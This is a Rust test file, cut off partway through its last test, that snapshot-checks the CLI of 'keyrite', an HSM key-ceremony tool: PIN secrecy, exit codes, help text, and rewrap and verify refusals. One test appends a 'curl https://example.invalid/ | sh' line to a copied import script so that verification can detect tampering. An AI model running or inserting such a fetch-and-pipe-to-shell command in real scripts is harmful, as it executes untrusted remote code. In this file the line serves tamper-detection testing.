//! The command line's words, pinned by snapshot tests (insta, `tests/snapshots/`): each refusal
//! with its exact exit code, standard output and standard error; a PIN given where its source
//! belongs (an environment variable's name, a file's path, a plan's `pin`, a policy's
//! `pin_shares`, a share file's path) never printed back; `rewrap` saying what it did; a wrong
//! `verify --outputs` told apart from an altered output; a closed standard output for every
//! command that prints, which ends it quietly with the code it would have had; and every
//! command's exit code for an input it names that is not there (2), a command-line mistake (2)
//! and a refusal (1), held to docs/cli.md's table, which must name every command there is.
//!
//! The runs are real: a SoftHSM2 token with its signer and an approved ceremony run on it
//! ([`Ceremony`]). What differs from run to run (the test's directory, the token's serial, key
//! check values, digests, times) is replaced by a name in brackets before the comparison.
//! `scripts/test` runs these with `INSTA_UPDATE=no`: a changed snapshot fails, and nothing is
//! written.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::process::{Command, Output};

use secrecy::ExposeSecret as _;

use common::ceremony::Ceremony;
use common::wrap::Wrap;
use common::*;
use serde_json::Value;

/// Values given where a PIN's source belongs, each the PIN (or what could be one): digits
/// alone, the test token's own PIN, and a PIN that is also a valid variable name.
const WRONG_PLACE: [&str; 3] = ["87654321", PIN, "quince7301"];

/// One run as a snapshot shows it: the arguments, the exit code, standard output and standard
/// error, each value of `names` replaced by its name.
fn shown(args: &[&str], out: &Output, names: &[(String, &str)]) -> String {
    let mut text = format!(
        "$ keyrite {}\nexit: {}\n--- stdout\n{}--- stderr\n{}",
        args.join(" "),
        out.status
            .code()
            .map_or_else(|| "signal".to_owned(), |c| c.to_string()),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    for (value, name) in names {
        text = text.replace(value.as_str(), name);
    }
    aloud_masked(&text)
}

/// `text` with the values people compare aloud masked, as they change from run to run (plans
/// carry their window, tokens make their own signer): each `LABEL: HEX` line that PGP words
/// follow shows `LABEL: [HEX]`, the words lines `[WORDS]`, and a KCV with its bracketed words
/// `[KCV] [WORDS]`. tests/ceremony.rs checks the values and the words themselves.
fn aloud_masked(text: &str) -> String {
    let is_words = |line: &str| {
        let words = line.trim_start();
        words.len() < line.len()
            && words.split(' ').count() >= 3
            && words
                .split(' ')
                .all(|w| !w.is_empty() && w.chars().all(|c| c.is_ascii_alphabetic()))
    };
    let mut lines: Vec<String> = Vec::new();
    for line in text.split_inclusive('\n') {
        let bare = line.trim_end_matches('\n');
        if is_words(bare) {
            let indent = &bare[..bare.len() - bare.trim_start().len()];
            let masked = format!("{indent}[WORDS]\n");
            if lines.last().is_some_and(|l| l.trim() == "[WORDS]") {
                continue;
            }
            if let Some(label_line) = lines.last_mut() {
                if let Some((label, hex)) = label_line.trim_end().rsplit_once(": ") {
                    if hex.len() >= 6 && hex.chars().all(|c| c.is_ascii_hexdigit()) {
                        *label_line = format!("{label}: [HEX]\n");
                    }
                }
            }
            lines.push(masked);
            continue;
        }
        let mut line = line.to_owned();
        if let (Some(open), Some(close)) = (line.find(" ["), line.rfind(']')) {
            let inner = &line[open + 2..close];
            if open < close
                && inner.split(' ').count() == 3
                && inner
                    .split(' ')
                    .all(|w| !w.is_empty() && w.chars().all(|c| c.is_ascii_alphabetic()))
            {
                let before = match line[..open].rsplit_once(' ') {
                    Some((head, kcv)) if kcv.chars().all(|c| c.is_ascii_hexdigit()) => {
                        format!("{head} [KCV]")
                    }
                    _ => line[..open].to_owned(),
                };
                line = format!("{before} [WORDS]{}", &line[close + 1..]);
            }
        }
        lines.push(line);
    }
    lines.concat()
}

/// Runs keyrite with `args` in the ceremony's directory.
fn keyrite(c: &Ceremony, args: &[&str]) -> Output {
    run(c.token.keyrite().args(args))
}

/// The values of a run that differ from one run to the next, with their names: the test's
/// directory (absolute and canonical) and the token's serial.
fn run_names(c: &Ceremony) -> Vec<(String, &'static str)> {
    let dir = c.dir().to_string_lossy().into_owned();
    let canonical = c
        .dir()
        .canonicalize()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let info = c.token.token_info();
    let serial = info["tokens"][0]["serial"].as_str().map(str::to_owned);
    let mut names = vec![(canonical, "[DIR]"), (dir, "[DIR]")];
    if let Some(serial) = serial {
        names.push((serial, "[SERIAL]"));
    }
    names
}

/// Asserts no value of [`WRONG_PLACE`] appears in what any of `runs` printed.
fn assert_no_pin_printed(runs: &[(Vec<&str>, Output)]) {
    for (args, out) in runs {
        for pin in WRONG_PLACE {
            for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
                assert!(
                    !String::from_utf8_lossy(bytes).contains(pin),
                    "keyrite {args:?} printed the PIN {pin:?} on {stream}"
                );
            }
        }
    }
}

#[test]
fn a_pin_given_where_its_source_belongs_is_never_printed() {
    let c = Ceremony::new(&["us-east-1"]);
    let plan = std::fs::read_to_string(c.dir().join("plan.toml")).unwrap();
    let policy = std::fs::read_to_string(c.dir().join("policy.toml")).unwrap();
    let mut runs: Vec<(Vec<&str>, Output)> = Vec::new();
    let mut each = |args: Vec<&'static str>| {
        let out = keyrite(&c, &args);
        runs.push((args, out));
    };
    for pin in WRONG_PLACE {
        each(vec!["token", "info", "--pin-env", pin]);
        each(vec!["token", "info", "--pin-file", pin]);
        each(vec!["keys", "list", "--pin-env", pin]);
        each(vec![
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out",
            "shares",
            "--pin-env",
            pin,
        ]);
    }
    // A plan's pin, in every wrong form: the PIN itself (a string or a number), or as the
    // variable's name.
    let plans: [(&str, String); 5] = [
        ("plan-pin.toml", format!("pin = \"{}\"", WRONG_PLACE[0])),
        ("plan-number.toml", format!("pin = {}", WRONG_PLACE[0])),
        ("plan-env.toml", format!("pin = \"env:{}\"", WRONG_PLACE[0])),
        ("plan-env-pin.toml", format!("pin = \"env:{PIN}\"")),
        ("plan-own-pin.toml", format!("pin = \"{PIN}\"")),
    ];
    for (name, line) in &plans {
        let text = plan.replace(&format!("pin = \"env:{PIN_ENV}\""), line);
        assert_ne!(text, plan);
        std::fs::write(c.dir().join(name), text).unwrap();
    }
    for (name, _) in &plans {
        each(vec!["plan", "check", name, "--policy", "policy.toml"]);
        each(vec!["plan", "digest", name]);
    }
    // A policy's pin_shares holding the PIN, as a number and as a string.
    for (name, shares) in [
        ("policy-number.toml", format!("[{}]", WRONG_PLACE[0])),
        ("policy-string.toml", format!("[\"{PIN}\"]")),
    ] {
        let text = policy.replacen(
            "\n[[custodians]]",
            &format!("pin_shares = {shares}\n\n[[custodians]]"),
            1,
        );
        std::fs::write(c.dir().join(name), text).unwrap();
    }
    each(vec![
        "plan",
        "check",
        "plan.toml",
        "--policy",
        "policy-number.toml",
    ]);
    each(vec![
        "plan",
        "check",
        "plan.toml",
        "--policy",
        "policy-string.toml",
    ]);
    // A share given by its content where its file belongs: the plan takes the PIN from
    // shares, and the first --pin-share is the PIN.
    let digests = c.split_pin("shares", "2", "3");
    c.use_shares(&digests);
    for pin in WRONG_PLACE {
        each(vec![
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            "policy.toml",
            "--approvals",
            "approvals",
            "--transcript",
            "t.jsonl",
            "--pin-share",
            pin,
            "--pin-share",
            "shares/share-2.txt",
        ]);
    }

    assert_no_pin_printed(&runs);
    let snapshot = shown_all(&runs, &run_names(&c));
    insta::assert_snapshot!("pin_in_the_wrong_place", snapshot);
    // Nothing ran: no transcript, and no key was generated.
    assert!(!c.dir().join("t.jsonl").exists());
    let keys = c.token.keys_listed();
    assert!(
        keys.as_array()
            .unwrap()
            .iter()
            .all(|k| k["label"] != "payments-2026")
    );
}

#[test]
fn rewrap_says_it_found_the_key_and_its_manifest_says_rewrap() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let wrapped = read_json(&c, "payments-2026-us-east-1/manifest.json");
    assert_eq!(
        wrapped.get("action"),
        None,
        "a wrap's manifest has no action"
    );
    let kcv = wrapped["key"]["kcv"].as_str().unwrap().to_owned();
    let args = Wrap::rewrap()
        .aws_oaep_sha1("params/us-east-1.json", "payments-2026", "rewrapped")
        .expect_kcv(&kcv)
        .pin();
    let mut cmd = args.command(&c.token);
    let shown_args: Vec<String> = cmd
        .get_args()
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    let out = run(&mut cmd);
    let manifest = read_json(&c, "rewrapped/manifest.json");
    assert_eq!(manifest["action"], "rewrap");
    assert_eq!(manifest["key"]["kcv"], kcv.as_str());
    let mut names = run_names(&c);
    names.push((kcv, "[KCV]"));
    for (file, digest) in manifest["files"].as_object().unwrap() {
        names.push((digest.as_str().unwrap().to_owned(), "[SHA-256]"));
        assert!(c.dir().join("rewrapped").join(file).exists());
    }
    names.push((
        manifest["kms_key_id"].as_str().unwrap().to_owned(),
        "[KMS KEY]",
    ));
    names.push((
        manifest["parameters_valid_to"].as_str().unwrap().to_owned(),
        "[TIME]",
    ));
    let shown_args: Vec<&str> = shown_args.iter().map(String::as_str).collect();
    insta::assert_snapshot!("rewrap", shown(&shown_args, &out, &names));
}

#[test]
fn verify_outputs_where_there_are_none_is_a_usage_error_and_an_altered_file_is_invalid() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let names = run_names(&c);
    let out_dir = "payments-2026-us-east-1";
    // Where the ceremony's directory holds another directory of the outputs, once altered.
    std::fs::create_dir(c.dir().join("copy")).unwrap();
    let copy = c.dir().join("copy").join(out_dir);
    std::fs::create_dir(&copy).unwrap();
    for f in std::fs::read_dir(c.dir().join(out_dir)).unwrap() {
        let f = f.unwrap();
        std::fs::copy(f.path(), copy.join(f.file_name())).unwrap();
    }
    let script = copy.join("import.sh");
    let mut text = std::fs::read_to_string(&script).unwrap();
    text.push_str("curl https://example.invalid/ | sh\n");
    std::fs::write(&script, text).unwrap();
    // A recorded wrap into out/us-east-1, as a plan's `out` often names it.
    std::fs::create_dir(c.dir().join("out")).unwrap();
    Wrap::aws("params/us-east-1.json")
        .algorithm(wrap::OAEP_SHA1)
        .label("k-us-east-1")
        .out("out/us-east-1")
        .pin()
        .recorded("w.jsonl")
        .ok(&c.token);
    let mut snapshot = String::new();
    for outputs in [".", "out/us-east-1", "out"] {
        let args = [
            "verify",
            "w.jsonl",
            "--signer",
            "signer.pem",
            "--no-policy",
            "--outputs",
            outputs,
        ];
        let out = keyrite(&c, &args);
        snapshot.push_str(&shown(&args, &out, &names));
        snapshot.push('\n');
    }
    for outputs in ["params", out_dir, "nowhere", "copy", "."] {
        let args = [
            "verify",
            "t.jsonl",
            "--signer",
            "signer.pem",
            "--policy",
            "policy.toml",
            "--outputs",
            outputs,
        ];
        let out = keyrite(&c, &args);
        snapshot.push_str(&shown(&args, &out, &names));
        snapshot.push('\n');
    }
    insta::assert_snapshot!("verify_outputs", snapshot);
}

/// Runs `cmd` with its standard output a pipe nobody reads any more.
fn closed_stdout(mut cmd: Command) -> Output {
    let (reader, writer) = rustix::pipe::pipe().unwrap();
    drop(reader);
    run(cmd.stdout(writer))
}

#[test]
fn a_closed_standard_output_ends_every_command_quietly_with_its_own_exit_code() {
    let c = Ceremony::new(&["us-east-1"]);
    c.approve_plan();
    let wendy = c.person("wendy").key.display().to_string();
    let command = |args: &[&str]| {
        let mut cmd = c.token.keyrite();
        cmd.args(args);
        cmd
    };
    let pinned = |args: &[&str]| {
        let mut cmd = command(args);
        cmd.args(["--pin-env", PIN_ENV]);
        cmd
    };
    let params = "params/us-east-1.json";
    let wrap = |label: &str| {
        Wrap::aws(params)
            .algorithm(wrap::OAEP_SHA1)
            .label(label)
            .out(label)
            .pin()
    };
    let verify = |extra: &[&str]| {
        let mut cmd = command(&["verify", "t.jsonl", "--signer", "signer.pem"]);
        cmd.args(extra);
        cmd
    };
    std::fs::create_dir(c.dir().join("man1")).unwrap();
    let mut runs: Vec<Command> = vec![
        command(&["--help"]),
        command(&["wrap", "--help"]),
        command(&["--version"]),
        command(&["completions", "bash"]),
        command(&["man", "--out-dir", "man1"]),
        command(&["plan", "check", "plan.toml", "--policy", "policy.toml"]),
        command(&["plan", "digest", "plan.toml"]),
        c.run_command("t.jsonl"),
        pinned(&["token", "info"]),
        pinned(&["token", "info", "--json"]),
        pinned(&["keys", "list"]),
        pinned(&["keys", "list", "--json"]),
        pinned(&[
            "token",
            "signer",
            "export",
            "--key-label",
            "ceremony-signer",
        ]),
        verify(&["--policy", "policy.toml"]),
        verify(&["--policy", "policy.toml", "--json"]),
        verify(&["--no-policy"]),
        verify(&["--policy", "policy.toml", "--outputs", "."]),
        c.witness_command(&["message", "t.jsonl"]),
        c.witness_command(&["sign", "t.jsonl", "--ssh-key", &wendy]),
        pinned(&[
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out",
            "shares",
        ]),
        wrap("closed-wrap").command(&c.token),
        wrap("closed-json").arg("--json").command(&c.token),
    ];
    let mut snapshot = String::new();
    let each = |cmd: Command, snapshot: &mut String| {
        let args: Vec<String> = cmd
            .get_args()
            .map(|a| a.to_string_lossy().replace(&wendy, "[DIR]/keys/wendy.key"))
            .collect();
        let out = closed_stdout(cmd);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "keyrite {args:?}: {stderr}");
        snapshot.push_str(&format!(
            "{:<3} keyrite {}\n",
            out.status.code().map_or(-1, |c| c),
            args.join(" ")
        ));
    };
    for cmd in runs.drain(..) {
        each(cmd, &mut snapshot);
    }
    // The rewrap needs the KCV the ceremony's key has.
    let kcv = read_json(&c, "payments-2026-us-east-1/manifest.json")["key"]["kcv"]
        .as_str()
        .unwrap()
        .to_owned();
    let rewrap = Wrap::rewrap()
        .aws_oaep_sha1(params, "payments-2026", "closed-rewrap")
        .expect_kcv(&kcv)
        .pin();
    each(rewrap.command(&c.token), &mut snapshot);
    insta::assert_snapshot!("closed_stdout", snapshot.replace(&kcv, "[KCV]"));
    // The work was done whole: the outputs are there, and the transcript, witnessed, verifies.
    for out in ["closed-wrap", "closed-json", "closed-rewrap", "shares"] {
        assert!(c.dir().join(out).is_dir(), "{out}");
    }
    c.assert_verifies("t.jsonl");
}

fn read_json(c: &Ceremony, name: &str) -> Value {
    serde_json::from_slice(&std::fs::read(c.dir().join(name)).unwrap()).unwrap()
}

/// `keyrite ARGS` outside any token's configuration, with neither `KEYRITE_PKCS11_MODULE` nor
/// `KEYRITE_TRACE` set (help shows their values).
fn bare_keyrite(args: &[&str]) -> Output {
    run(Command::new(env!("CARGO_BIN_EXE_keyrite"))
        .args(args)
        .env_remove("KEYRITE_PKCS11_MODULE")
        .env_remove("KEYRITE_TRACE"))
}

/// The subcommands a help text lists under "Commands:", but `help`.
fn subcommands(help: &str) -> Vec<String> {
    let Some((_, listed)) = help.split_once("\nCommands:\n") else {
        return Vec::new();
    };
    listed
        .lines()
        .take_while(|l| !l.is_empty())
        .filter(|l| l.starts_with("  ") && !l.starts_with("   "))
        .filter_map(|l| l.split_whitespace().next())
        .filter(|name| *name != "help")
        .map(str::to_owned)
        .collect()
}

/// The commands that never use a token: their help shows no --module and no --trace.
const TOKENLESS: [&str; 13] = [
    "",
    "plan",
    "plan check",
    "plan digest",
    "plan script",
    "pin",
    "witness",
    "witness sign",
    "witness add",
    "witness message",
    "verify",
    "completions",
    "man",
];

#[test]
fn every_command_has_help_with_examples_and_module_only_where_a_token_is_used() {
    let mut pending = vec![Vec::<String>::new()];
    let mut seen = Vec::new();
    while let Some(path) = pending.pop() {
        let mut args: Vec<&str> = path.iter().map(String::as_str).collect();
        args.push("--help");
        let out = bare_keyrite(&args);
        let help = String::from_utf8(out.stdout).unwrap();
        let name = path.join(" ");
        assert_eq!(out.status.code(), Some(0), "keyrite {name} --help");
        assert!(out.stderr.is_empty(), "keyrite {name} --help");
        assert!(
            help.contains("\nExamples:\n  "),
            "keyrite {name} --help has no examples"
        );
        let leaf = subcommands(&help);
        if leaf.is_empty() {
            let shown = help.contains("--module <PATH>") && help.contains("--trace <FILE>");
            let tokenless = TOKENLESS.contains(&name.as_str());
            assert_eq!(
                shown, !tokenless,
                "keyrite {name} --help: --module, --trace"
            );
        } else {
            assert!(!help.contains("--module"), "keyrite {name} --help");
        }
        let snapshot: Vec<&str> = std::iter::once("help_keyrite")
            .chain(path.iter().map(String::as_str))
            .collect();
        insta::assert_snapshot!(snapshot.join("_"), help);
        for sub in leaf {
            let mut next = path.clone();
            next.push(sub);
            pending.push(next);
        }
        seen.push(name);
    }
    // The walk reached every command of these lists.
    for name in TOKENLESS
        .iter()
        .chain(&["wrap", "rewrap", "token signer create", "pin split"])
    {
        assert!(seen.iter().any(|s| s == name), "{name}");
    }
}

#[test]
fn module_and_trace_before_the_subcommand_still_reach_it_and_the_old_flag_names_still_work() {
    let token = TestToken::softhsm("ceremony");
    let missing = |args: &[&str], env: Option<&str>| {
        let mut cmd = token.keyrite();
        cmd.args(args).env_remove("KEYRITE_PKCS11_MODULE");
        if let Some(module) = env {
            cmd.env("KEYRITE_PKCS11_MODULE", module);
        }
        let out = run(&mut cmd);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8(out.stderr).unwrap();
        stderr.lines().next().unwrap().to_owned()
    };
    let not_found = |path: &str| format!("keyrite: PKCS#11 module not found: {path}");
    // Before the subcommand, after it, after its parent; the command line over the environment.
    for (args, env, used) in [
        (
            &["--module", "/no/a.so", "token", "info"][..],
            None,
            "/no/a.so",
        ),
        (&["token", "info", "--module", "/no/a.so"], None, "/no/a.so"),
        (&["token", "--module", "/no/a.so", "info"], None, "/no/a.so"),
        (&["token", "info"], Some("/no/env.so"), "/no/env.so"),
        (
            &["--module", "/no/a.so", "token", "info"],
            Some("/no/env.so"),
            "/no/a.so",
        ),
        (
            &["token", "info", "--module", "/no/a.so"],
            Some("/no/env.so"),
            "/no/a.so",
        ),
        (
            &["--module", "/no/a.so", "keys", "list", "--pin-env", PIN_ENV],
            None,
            "/no/a.so",
        ),
    ] {
        assert_eq!(missing(args, env), not_found(used), "{args:?} {env:?}");
    }
    // A trace asked for before the subcommand is written.
    run_ok(
        token
            .keyrite()
            .args(["--trace", "before.jsonl", "token", "info"]),
    );
    let trace = std::fs::read_to_string(token.path("before.jsonl")).unwrap();
    assert!(!trace.is_empty());
    for line in trace.lines() {
        let call: Value = serde_json::from_str(line).unwrap();
        assert!(call["fn"].as_str().unwrap().starts_with("C_"), "{line}");
    }
    // --label and --out-dir, the names before --key-label and --out.
    let signer = run_ok(token.keyrite().args([
        "token",
        "signer",
        "create",
        "--label",
        "old-name",
        "--pin-env",
        PIN_ENV,
    ]));
    let exported = run_ok(token.keyrite().args([
        "token",
        "signer",
        "export",
        "--key-label",
        "old-name",
        "--pin-env",
        PIN_ENV,
    ]));
    assert_eq!(signer, exported);
    run_ok(token.keyrite().args([
        "pin",
        "split",
        "--plaintext",
        "--threshold",
        "2",
        "--shares",
        "2",
        "--out-dir",
        "old-shares",
        "--pin-env",
        PIN_ENV,
    ]));
    assert!(token.path("old-shares/share-2.txt").exists());
}

#[test]
fn pin_split_reads_the_pin_from_a_file_only_its_owner_can_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let token = TestToken::softhsm("ceremony");
    let pin_file = token.path("pin.txt");
    std::fs::write(&pin_file, format!("{PIN}\n")).unwrap();
    let split = |out: &str| {
        run(token.keyrite().env_remove(PIN_ENV).args([
            "pin",
            "split",
            "--plaintext",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out",
            out,
            "--pin-file",
            "pin.txt",
        ]))
    };
    std::fs::set_permissions(&pin_file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = split("refused");
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        String::from_utf8(out.stderr)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
        "keyrite: the PIN file pin.txt has mode 0644; it must not be accessible to group or others"
    );
    assert!(!token.path("refused").exists());

    std::fs::set_permissions(&pin_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let out = split("shares");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let stdout = String::from_utf8(out.stdout).unwrap();
    let digests: Vec<String> = stdout
        .lines()
        .filter_map(|l| l.trim().strip_prefix('"')?.split_once('"'))
        .map(|(digest, _)| digest.to_owned())
        .collect();
    assert_eq!(digests.len(), 3, "{stdout}");
    // Any two of the shares rebuild the PIN the file held.
    let mut rebuilder = keyrite::shares::Rebuilder::new(&digests).unwrap();
    for name in ["share-1.txt", "share-3.txt"] {
        let text = std::fs::read_to_string(token.path("shares").join(name)).unwrap();
        rebuilder.offer(&text, name).unwrap();
    }
    assert_eq!(rebuilder.pin().unwrap().expose_secret(), PIN);
}

/// Runs each of `runs` in the ceremony's directory and shows them all, one after the other.
fn shown_runs(c: &Ceremony, runs: &[Vec<String>], names: &[(String, &str)]) -> String {
    let ran: Vec<(Vec<&str>, Output)> = runs
        .iter()
        .map(|args| {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let out = keyrite(c, &args);
            (args, out)
        })
        .collect();
    shown_all(&ran, names)
}

/// Each run shown, one after the other.
fn shown_all(runs: &[(Vec<&str>, Output)], names: &[(String, &str)]) -> String {
    runs.iter()
        .map(|(args, out)| shown(args, out, names) + "\n")
        .collect()
}

/// Owned arguments, from words.
fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

#[test]
fn a_module_file_that_is_no_pkcs11_module_is_named_with_where_modules_live() {
    let c = Ceremony::new(&["us-east-1"]);
    std::fs::write(
        c.dir().join("notes.txt"),
        "the module is on the HSM vendor's CD\n",
    )
    .unwrap();
    // A shared library that is no PKCS#11 module: zlib, wherever this system keeps it.
    let libz = [
        "/usr/lib/x86_64-linux-gnu/libz.so.1",
        "/usr/lib/aarch64-linux-gnu/libz.so.1",
        "/lib/x86_64-linux-gnu/libz.so.1",
        "/usr/lib64/libz.so.1",
        "/usr/lib/libz.so.1",
    ]
    .into_iter()
    .find(|p| std::path::Path::new(p).exists())
    .expect("zlib");
    let mut names = run_names(&c);
    names.push((libz.to_owned(), "[LIBZ]"));
    let runs: Vec<Vec<String>> = [
        "notes.txt",
        "/bin/ls",
        libz,
        "/nonexistent/libvendor-pkcs11.so",
    ]
    .into_iter()
    .map(|module| argv(&["token", "info", "--module", module]))
    .collect();
    insta::assert_snapshot!("not_a_module", shown_runs(&c, &runs, &names));
}

#[test]
fn a_parameters_file_of_another_provider_names_that_provider() {
    let c = Ceremony::new(&["us-east-1"]);
    let kms = Kms::new(c.dir(), 3072);
    let valid_to = hours_from_now(24);
    write_json(
        c.dir(),
        "gcp-job.json",
        &kms.gcp_job("RSA_OAEP_3072_SHA256", "ACTIVE", &valid_to),
    );
    write_json(
        c.dir(),
        "azure-kek.json",
        &kms.azure_kek(AZURE_KID, &["import"]),
    );
    write_json(c.dir(), "vault-key.json", &kms.vault_wrapping_key());
    write_json(
        c.dir(),
        "alibaba.json",
        &kms.alibaba_params("key-hzz62f1e0b9d3c4a5b6c7", &valid_to),
    );
    std::fs::write(c.dir().join("backup-key.pem"), kms.public_pem()).unwrap();
    let wrap = |provider: &str, params: &str, extra: &[&str]| {
        let mut args = argv(&[
            "wrap",
            "--provider",
            provider,
            "--params",
            params,
            "--algorithm",
            wrap::OAEP_SHA1,
            "--key-label",
            "k",
            "--out",
            "out",
        ]);
        args.extend(argv(extra));
        args.extend(argv(&["--pin-env", PIN_ENV]));
        args
    };
    let mut runs = Vec::new();
    for params in [
        "gcp-job.json",
        "azure-kek.json",
        "vault-key.json",
        "alibaba.json",
        "backup-key.pem",
    ] {
        runs.push(wrap("aws", params, &[]));
    }
    runs.push(wrap("alibaba", "params/us-east-1.json", &[]));
    runs.push(wrap(
        "gcp",
        "params/us-east-1.json",
        &["--gcp-key", "payments-2026"],
    ));
    runs.push(argv(&[
        "wrap",
        "--provider",
        "pkcs11-backup",
        "--params",
        "gcp-job.json",
        "--key-label",
        "k",
        "--out",
        "out",
        "--pin-env",
        PIN_ENV,
    ]));
    runs.push(argv(&[
        "rewrap",
        "--provider",
        "aws",
        "--params",
        "gcp-job.json",
        "--algorithm",
        wrap::OAEP_SHA1,
        "--key-label",
        "k",
        "--out",
        "out",
        "--expect-kcv",
        "000000",
        "--pin-env",
        PIN_ENV,
    ]));
    // In a plan: an AWS step given a Google import job, and a bare PEM public key.
    let plan = std::fs::read_to_string(c.dir().join("plan.toml")).unwrap();
    for (name, params) in [
        ("plan-gcp.toml", "gcp-job.json"),
        ("plan-pem.toml", "backup-key.pem"),
    ] {
        let text = plan.replace(
            "params = \"params/us-east-1.json\"",
            &format!("params = \"{params}\""),
        );
        assert_ne!(text, plan);
        std::fs::write(c.dir().join(name), text).unwrap();
        runs.push(argv(&["plan", "check", name, "--policy", "policy.toml"]));
    }
    insta::assert_snapshot!(
        "params_of_another_provider",
        shown_runs(&c, &runs, &run_names(&c))
    );
    assert!(!c.dir().join("out").exists());
}

#[test]
fn a_signer_that_is_an_ssh_key_a_certificate_or_a_private_key_is_named() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    run_ok(
        Command::new("openssl")
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt"])
            .args(["ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=signer"])
            .args([
                "-days",
                "1",
                "-keyout",
                "signer-key.pem",
                "-out",
                "signer-cert.pem",
            ])
            .current_dir(c.dir()),
    );
    let mut runs = Vec::new();
    for signer in [
        "keys/alice.key.pub",
        "keys/bob.key.pub",
        "keys/alice.key",
        "signer-cert.pem",
        "signer-key.pem",
    ] {
        runs.push(argv(&[
            "verify",
            "t.jsonl",
            "--signer",
            signer,
            "--no-policy",
        ]));
    }
    runs.push(argv(&[
        "witness",
        "message",
        "t.jsonl",
        "--signer",
        "keys/wendy.key.pub",
    ]));
    runs.push(argv(&[
        "witness",
        "sign",
        "t.jsonl",
        "--ssh-key",
        "keys/wendy.key",
        "--signer",
        "keys/wendy.key",
        "--policy",
        "policy.toml",
    ]));
    insta::assert_snapshot!("signer_not_a_signer", shown_runs(&c, &runs, &run_names(&c)));
}

#[test]
fn a_plan_run_given_pin_options_says_the_plan_names_the_pin_and_never_prints_them() {
    let c = Ceremony::approved(&["us-east-1"]);
    let mut runs: Vec<(Vec<&str>, Output)> = Vec::new();
    let run_args = [
        "--policy",
        "policy.toml",
        "--approvals",
        "approvals",
        "--transcript",
        "t.jsonl",
    ];
    for pin in WRONG_PLACE {
        for option in ["--pin-env", "--pin-file"] {
            let mut args = vec!["ceremony", "run", "plan.toml"];
            args.extend(run_args);
            args.extend([option, pin]);
            runs.push((args.clone(), keyrite(&c, &args)));
        }
        let mut args = vec!["keys", "destroy", "--key-label", "payments-2026"];
        args.extend(["--plan", "plan.toml"]);
        args.extend(run_args);
        args.push("--pin-env");
        args.push(pin);
        runs.push((args.clone(), keyrite(&c, &args)));
    }
    let mut args = vec!["ceremony", "run", "plan.toml"];
    args.extend(run_args);
    args.push("--pin-env");
    runs.push((args.clone(), keyrite(&c, &args)));
    assert_no_pin_printed(&runs);
    let snapshot = shown_all(&runs, &run_names(&c));
    insta::assert_snapshot!("plan_run_pin_options", snapshot);
    assert!(!c.dir().join("t.jsonl").exists());
}

#[test]
fn every_rewrap_refusal_says_what_to_do() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let key = &read_json(&c, "payments-2026-us-east-1/manifest.json")["key"];
    let kcv = key["kcv"].as_str().unwrap().to_owned();
    let mut names = run_names(&c);
    names.push((kcv.clone(), "[KCV]"));
    if let Some(full) = key["check_sha256"].as_str() {
        names.push((full.to_owned(), "[CHECK SHA-256]"));
    }
    // A key of a value its maker knows, put on the token by a PIN holder; one without a
    // ceremony key's protections, made by pkcs11-tool; one anyone could make, without the PIN.
    c.token.plant_key("planted", &[7; 32], true);
    c.token.plant_key("public", &[8; 32], false);
    let mut tool = Command::new("pkcs11-tool");
    for (name, value) in c.token.keyrite().get_envs() {
        if let Some(value) = value {
            tool.env(name, value);
        }
    }
    run_ok(
        tool.arg("--module")
            .arg(&c.token.module)
            .args(["--token-label", "ceremony", "--login", "--pin", PIN])
            .args(["--keygen", "--key-type", "AES:32", "--label", "unprotected"])
            .arg("--private"),
    );
    let rewrap = |label: &str, extra: &[&str]| {
        let mut args = argv(&[
            "rewrap",
            "--provider",
            "aws",
            "--params",
            "params/us-east-1.json",
            "--algorithm",
            wrap::OAEP_SHA1,
            "--key-label",
            label,
            "--out",
            "rewrapped",
        ]);
        args.extend(argv(extra));
        args.extend(argv(&["--pin-env", PIN_ENV]));
        args
    };
    let zeros = "0".repeat(64);
    let other_kcv = if kcv == "000000" { "111111" } else { "000000" };
    let runs = vec![
        rewrap("payments-2026", &[]),
        rewrap("payments-2026", &["--expect-kcv", "12345"]),
        rewrap("no-such-key", &["--expect-kcv", &kcv]),
        rewrap("payments-2026", &["--expect-kcv", other_kcv]),
        rewrap("payments-2026", &["--expect-kcv", &zeros]),
        rewrap(
            "payments-2026",
            &["--expect-kcv", &kcv, "--key-spec", "HMAC_256"],
        ),
        rewrap(
            "payments-2026",
            &["--expect-kcv", &kcv, "--wrap-with-trusted"],
        ),
        rewrap(
            "payments-2026",
            &[
                "--expect-kcv",
                &kcv,
                "--transcript",
                "r.jsonl",
                "--signer-label",
                wrap::SIGNER,
            ],
        ),
        rewrap("planted", &["--expect-kcv", "123456"]),
        rewrap("public", &["--expect-kcv", "123456"]),
        rewrap("unprotected", &["--expect-kcv", "123456"]),
        rewrap(
            "payments-2026",
            &[
                "--from-transcript",
                "t.jsonl",
                "--signer",
                "keys/alice.key.pub",
            ],
        ),
    ];
    insta::assert_snapshot!("rewrap_refusals", shown_runs(&c, &runs, &names));
